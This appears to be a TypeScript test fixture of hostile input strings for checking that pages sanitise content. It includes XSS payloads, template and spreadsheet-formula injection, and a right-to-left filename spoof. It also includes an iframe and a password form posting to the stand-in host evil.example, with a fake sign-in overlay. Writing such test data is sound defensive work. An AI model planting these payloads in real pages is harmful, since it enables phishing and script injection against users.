/** Written by hand, each for one mistake a page could make. None does harm beyond a box that says it was let through. */
const attacks = {
  script: `<script>alert("title")</script>`,
  image: `<img src=x onerror="alert('image')">`,
  link: `<a href="javascript:alert('link')">Your prize</a>`,
  attribute: `" autofocus onfocus="alert('attribute')`,
  template: "{{7*7}} <%= 7*7 %> {count, plural, other {#}}",
  formula: `=HYPERLINK("http://evil.example","open")`,
  direction: "invoice\u202Egpj.exe",
  invisible: "Mei\u200BLin\uFEFF",
  stacked: `Z${"\u0337\u0322\u0489".repeat(20)}algo`,
  endless: "W".repeat(180),
  emoji: "👩‍👩‍👧‍👦".repeat(12),
  quotes: `O'Brien & "Söhne" <GmbH>`,
} as const;

export const hostile = {
  all: Object.values(attacks),
  ...attacks,
  name: `O'Brien <b>née</b> ${attacks.direction}`,
  shortScript: "<script>alert(1)</script>",
  /** What a body of a page may carry, to be cleaned by who shows it. */
  page: [
    "<style>body{display:none}</style>",
    `<iframe src="https://evil.example/"></iframe>`,
    `<form action="https://evil.example/"><input name="password"></form>`,
    `<svg><animate onbegin="alert('svg')" attributeName="x"></animate></svg>`,
    `<p style="position:fixed;inset:0;background:#fff">Session ended. Sign in at evil.example.</p>`,
  ].join(""),
} as const;
